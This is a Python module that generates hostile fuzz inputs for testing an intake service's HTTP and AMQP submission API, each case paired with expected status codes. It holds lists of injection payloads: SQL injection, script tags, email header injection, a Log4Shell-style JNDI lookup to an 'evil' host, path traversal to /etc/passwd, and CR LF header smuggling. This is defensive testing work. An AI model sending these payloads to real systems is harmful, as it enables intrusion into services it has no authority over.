"""Generators of hostile input for the fuzz run (no tests here).

``hostile(rng, i)`` makes one odd or bad submission body, the same for every door: the AMQP
run publishes it, the HTTP run posts it. ``http_calls`` wraps it in HTTP requests and adds
what only HTTP has: credentials, content types, Idempotency-Key headers (header injection
included), chunked and oversized bodies, and batches, good and bad.
"""

from __future__ import annotations

import json
import random
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from shared.submissions import SubmissionModel
from tests.integration.test_intake_support import VALID_EXAMPLES, example_message

# Every kind, so that every field type meets the odd values (dates, enums, floats, lists).
BASES: list[dict[str, Any]] = [example_message(n)["body"] for n in VALID_EXAMPLES]
FREE_TEXT: dict[str, str] = {
    cls.model_fields["kind"].annotation.__args__[0]: cls.free_text_fields[0]  # type: ignore[union-attr]
    for cls in SubmissionModel.__args__  # type: ignore[attr-defined]
    if cls.free_text_fields}
TEXTUAL = [b for b in BASES if isinstance(b.get(FREE_TEXT.get(b["kind"], "")), str)]
INJECTIONS = [
    "'); DROP TABLE intake.feedback; --",
    "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "Robert\r\nBcc: attacker@evil.example\r\nSubject: pwned",
    "{{ 7*7 }} {% for x in range(9) %}${jndi:ldap://x}",
    "\u202eevil\u200b\ufeff zero-width and bidi",
    "💥" * 50,
]


def odd_value(rng: random.Random) -> Any:
    return rng.choice([None, True, -1, 10**30, 1.5e308, float("nan"), float("inf"), "", " ",
                       "x" * 5000, [], {}, [1, [2, [3]]], {"a": {"b": {"c": None}}},
                       "2031-01-01", "1800-02-30", "NaN", "-Infinity", rng.choice(INJECTIONS),
                       "\u0000", "é" * 100])


def with_injection(rng: random.Random, i: int, prefix: str = "FUZZ") -> dict[str, Any]:
    """A valid submission whose free text carries an injection: to be accepted, inert."""
    base = dict(rng.choice(TEXTUAL))
    text = FREE_TEXT[base["kind"]]
    return {**base, "record_id": f"{prefix}-{i:06d}",
            text: rng.choice(INJECTIONS) + " " + base[text][:200]}


def hostile(rng: random.Random, i: int, prefix: str = "FUZZ") -> tuple[bytes, str | None]:
    """One odd or bad submission body (record id ``<prefix>-<i>``) and its content type."""
    base = dict(rng.choice(BASES))
    base["record_id"] = f"{prefix}-{i:06d}"
    roll = rng.random()
    if roll < 0.05:
        return bytes(rng.getrandbits(8) for _ in range(rng.randrange(1, 300))), "application/json"
    if roll < 0.07:
        return b"{" * rng.randrange(100, 5000), "application/json"
    if roll < 0.08:
        return json.dumps({**base, "description": "y" * 1_100_000}).encode(), "application/json"
    if roll < 0.10:
        return json.dumps(base).encode(), rng.choice(["text/xml", "application/octet-stream",
                                                      "multipart/form-data"])
    if roll < 0.12:
        return json.dumps(base).encode("utf-16"), "application/json"
    if roll < 0.20:
        return json.dumps({**base, "kind": rng.choice(["tweet", "", None, 7, "COMPLAINT"])
                           }).encode(), "application/json"
    if roll < 0.26:
        return json.dumps({**base, "ods_code": rng.choice(["ZZZ99", "rj1", "", "RJ1;--", 5])
                           }).encode(), "application/json"
    if roll < 0.45:
        return json.dumps(with_injection(rng, i, prefix)).encode(), "application/json"
    mutated = dict(base)
    for _ in range(rng.randrange(1, 4)):
        key = rng.choice(sorted(mutated))
        action = rng.random()
        if action < 0.3 and key != "record_id":
            del mutated[key]
        elif action < 0.8:
            mutated[key] = odd_value(rng)
        else:
            mutated[rng.choice(["extra", "__proto__", "kind ", "ods code"])] = odd_value(rng)
    return json.dumps(mutated).encode(), rng.choice(["application/json", None])


# -- HTTP ---------------------------------------------------------------------------------------
SINGLE, BATCH = "/v1/submissions", "/v1/submissions/batch"
# The statuses services/intake/http.py documents for each route.
DOCUMENTED = {SINGLE: {200, 202, 401, 403, 413, 415, 422}, BATCH: {200, 400, 401, 413, 415}}
Headers = dict[str, str | bytes]


@dataclass
class Call:
    """One HTTP request of the fuzz run, and what it must get if that is known."""

    case: str
    path: str
    body: bytes
    headers: Headers
    expect: set[int] = field(default_factory=set)  # empty: any documented status
    chunked: bool = False  # sent without a Content-Length, in chunks
    # Header lines smuggled into the request after a CR LF in the Idempotency-Key: sent over a
    # plain socket, since an HTTP client refuses to put CR LF in a header value.
    smuggled: bytes = b""


def bad_credentials(key: str) -> list[tuple[str, Headers]]:
    return [
        ("no key", {}),
        ("bearer without a token", {"Authorization": "Bearer"}),
        ("blank bearer", {"Authorization": "Bearer    "}),
        ("wrong key", {"Authorization": f"Bearer {key[:-3]}xyz"}),
        ("basic auth", {"Authorization": "Basic Z3Vlc3Q6Z3Vlc3Q="}),
        ("other scheme", {"Authorization": f"Token {key}"}),
        ("two tokens", {"Authorization": f"Bearer {key} {key}"}),
        ("huge token", {"Authorization": "Bearer " + "A" * 8000}),
        ("latin-1 token", {"Authorization": b"Bearer \xe9\xff\xfe" + key.encode()}),
        ("SQL in X-API-Key", {"X-API-Key": "' OR '1'='1"}),
        ("empty X-API-Key", {"X-API-Key": ""}),
        ("bad bearer beats a good X-API-Key", {"Authorization": "Bearer nope", "X-API-Key": key}),
    ]


CONTENT_TYPES: list[tuple[str | bytes | None, set[int]]] = [
    ("application/json; charset=latin-1", {415}),
    ("application/json; charset=utf-16", {415}),
    ("text/plain", {415}),
    ("text/html", {415}),
    ("application/x-www-form-urlencoded", {415}),
    ("multipart/form-data; boundary=xyz", {415}),
    ("application/problem+json", {415}),
    ("application/json, text/html", {415}),
    (b"application/json\xff", {415}),
    ("APPLICATION/JSON", {202}),
    ('application/json;charset="UTF-8"', {202}),
    ("application/json;;;", {202}),
    ("", {202}),
    (None, {202}),  # no Content-Type at all: taken as JSON
]
IDEMPOTENCY_KEYS: list[str | bytes] = [
    "", "   ", "k" * 300, "'; DROP TABLE intake.receipts; --", "<script>alert(1)</script>",
    b"\xe9t\xe9 \xff", "%0d%0aX-Injected:%20yes", "a\tb", "${jndi:ldap://evil/x}", "../../etc/passwd",
    "\u202eevil".encode(),
]
SMUGGLED: list[tuple[bytes, set[int]]] = [
    (b"X-Injected: yes", {202}),
    # A second header of the same name comes after the first: the first one counts.
    (b"Authorization: Bearer smuggled", {202}),
    (b"Content-Type: text/html", {202}),
    (b"Idempotency-Key: second", {202}),
    (b"Set-Cookie: session=stolen\r\nX-Forwarded-For: 10.0.0.1", {202}),
]
NON_UTF8: list[tuple[str, bytes, set[int]]] = [
    ("latin-1", json.dumps({"kind": "complaint", "description": "café"}, ensure_ascii=False)
     .encode("latin-1"), {422}),
    ("cp1252 quotes", '{"kind": "complaint", "description": "\u201cquoted\u201d"}'.encode("cp1252"),
     {422}),
    ("UTF-16 with BOM", json.dumps({"kind": "complaint"}).encode("utf-16"), {422}),
    ("UTF-32", json.dumps({"kind": "complaint"}).encode("utf-32"), {422}),
    ("overlong UTF-8", b'{"kind": "complaint", "description": "\xc0\xaf"}', {422}),
    ("lone surrogate escape", b'{"kind": "complaint", "description": "\\ud800"}', {422}),
    ("UTF-8 BOM", b"\xef\xbb\xbf" + json.dumps({"kind": "complaint"}).encode(), {422}),
]
ODD_BODIES = [b"", b"   ", b"null", b"[]", b'"complaint"', b"0", b"{}", b"\x00" * 20]


def http_calls(rng: random.Random, key: str, count: int, not_ours: str) -> Iterator[Call]:
    """``count`` hostile requests to intake's HTTP API, as feed ``key``; ``not_ours`` is a
    registered provider the feed may not submit for."""
    auth: Headers = {"Authorization": f"Bearer {key}"}
    recent: list[Call] = []  # small requests sent a while ago, to send again
    for i in range(count):
        call = _http_call(rng, i, key, auth, not_ours, recent)
        if len(call.body) < 20_000 and not call.smuggled:
            recent.append(call)
            del recent[:-500]
        yield call


def _valid(rng: random.Random, i: int) -> dict[str, Any]:
    return {**rng.choice(BASES), "record_id": f"HTTP-{i:06d}"}


def _json(body: dict[str, Any] | list[Any]) -> bytes:
    return json.dumps(body, ensure_ascii=False).encode()


def _http_call(rng: random.Random, i: int, key: str, auth: Headers, not_ours: str,
               recent: list[Call]) -> Call:
    roll = rng.random()
    if roll < 0.06:
        return _batch_call(rng, i, key, auth)
    if roll < 0.09:
        case, credentials = rng.choice(bad_credentials(key))
        body, content_type = hostile(rng, i)
        headers = {**credentials, **({"Content-Type": content_type} if content_type else {})}
        return Call(f"auth: {case}", SINGLE, body, headers, {401})
    if roll < 0.11:
        good_credentials: list[tuple[str, Headers]] = [
            ("lower-case bearer", {"Authorization": f"bearer {key}"}), ("X-API-Key", {"X-API-Key": key})]
        case, credentials = rng.choice(good_credentials)
        return Call(f"auth: {case}", SINGLE, _json(_valid(rng, i)), credentials, {202})
    if roll < 0.14:
        odd_type, expect = rng.choice(CONTENT_TYPES)
        headers = {**auth, **({"Content-Type": odd_type} if odd_type is not None else {})}
        return Call(f"content type: {odd_type!r}", SINGLE, _json(_valid(rng, i)), headers,
                    expect)
    if roll < 0.17:
        idempotency_key = rng.choice(IDEMPOTENCY_KEYS)
        return Call(f"Idempotency-Key: {idempotency_key!r}"[:60], SINGLE,
                    _json(with_injection(rng, i)), {**auth, "Idempotency-Key": idempotency_key},
                    {202})
    if roll < 0.18:
        smuggled, expect = rng.choice(SMUGGLED)
        return Call(f"CR LF in Idempotency-Key: {smuggled[:30]!r}", SINGLE,
                    _json(_valid(rng, i)),
                    {**auth, "Content-Type": "application/json",
                     "Idempotency-Key": f"fuzz-{i}"}, expect, smuggled=smuggled)
    if roll < 0.19:
        huge = rng.choice([
            ("2 MB of JSON", _json({**_valid(rng, i), "description": "z" * 2_000_000}), False),
            ("3 MB chunked", b"[" + b" " * 3_000_000 + b"]", True),
            ("1 MiB + 1 of spaces", b" " * 1_048_577, False),
        ])
        return Call(f"huge: {huge[0]}", SINGLE, huge[1], auth, {413}, chunked=huge[2])
    if roll < 0.20:
        case, body, expect = rng.choice(NON_UTF8)
        return Call(f"not UTF-8: {case}", SINGLE, body,
                    {**auth, "Content-Type": "application/json"}, expect)
    if roll < 0.21:
        return Call("odd body", SINGLE, rng.choice(ODD_BODIES), auth, {422})
    if roll < 0.22:
        return Call("provider not the feed's", SINGLE,
                    _json({**_valid(rng, i), "ods_code": not_ours}), auth, {403})
    if roll < 0.25 and len(recent) > 200:
        # The same request again long after (a retry: a replay when it had an Idempotency-Key
        # or no key) or the same record under a new key (a duplicate when it was accepted).
        again = rng.choice(recent[:-100])
        if rng.random() < 0.5:
            return Call(f"again: {again.case}"[:60], again.path, again.body, again.headers)
        return Call(f"new key: {again.case}"[:60], again.path, again.body,
                    {**again.headers, "Idempotency-Key": uuid.uuid4().hex})
    body, content_type = hostile(rng, i)
    return Call("hostile body", SINGLE, body,
                {**auth, **({"Content-Type": content_type} if content_type else {})})


def _batch_item(rng: random.Random, i: int, n: int) -> Any:
    body, _ = hostile(rng, n, f"FUZZB{i}")
    try:
        return json.loads(body)
    except (ValueError, RecursionError):  # not JSON, or not UTF-8: the text is the item
        return body.decode("latin-1")


def _batch_call(rng: random.Random, i: int, key: str, auth: Headers) -> Call:
    roll = rng.random()
    size = rng.randrange(1, 30)
    headers: Headers = {**auth, "Content-Type": "application/json"}
    if rng.random() < 0.3:
        headers["Idempotency-Key"] = f"batch-{i}"
    if roll < 0.5:
        items = [_batch_item(rng, i, n) for n in range(size)]
        return Call("batch: JSON array", BATCH, _json(items), headers, {200})
    if roll < 0.75:
        lines = [hostile(rng, n, f"FUZZB{i}")[0] for n in range(size)]
        return Call("batch: NDJSON", BATCH, b"\n".join(lines),
                    {**headers, "Content-Type": "application/x-ndjson"}, {200})
    bad: list[tuple[str, bytes, str, set[int]]] = [
        ("an object", b'{"kind": "complaint"}', "application/json", {400}),
        ("not JSON", b"[{'kind': 'complaint'}]", "application/json", {400}),
        ("unclosed arrays", b"[" * 100_000, "application/json", {400}),
        ("CSV", b"kind,ods_code\ncomplaint,RJ1\n", "text/csv", {415}),
        ("1,001 items", b"\n".join([b"{}"] * 1001), "application/x-ndjson", {413}),
        ("empty array", b"[]", "application/json", {200}),
        ("blank lines", b"\n\n  \n", "application/x-ndjson", {200}),
        ("not objects", b'[1, "two", null, [], true, 1e999, NaN]', "application/json", {200}),
        ("lone surrogate", b'[{"kind": "complaint", "description": "\\ud800"}]',
         "application/json", {200}),
        ("deep nesting", b"[" * 900 + b"]" * 900, "application/json", {200, 400}),
        ("huge number", b"[" + b"9" * 5000 + b"]", "application/json", {200, 400}),
        ("latin-1 declared", _json([_valid(rng, i)]), "application/json; charset=latin-1",
         {200, 415}),
    ]
    case, body, content_type, expect = rng.choice(bad)
    if rng.random() < 0.1:
        return Call("batch: no key", BATCH, body, {"Content-Type": content_type}, {401})
    return Call(f"batch: {case}", BATCH, body, {**headers, "Content-Type": content_type}, expect)


def too_big_batch(key: str) -> Call:
    """One batch over the 32 MiB limit (sent once per run)."""
    return Call("batch: over 32 MiB", BATCH, b"[" + b" " * (33 * 1_048_576) + b"]",
                {"Authorization": f"Bearer {key}", "Content-Type": "application/json"}, {413})
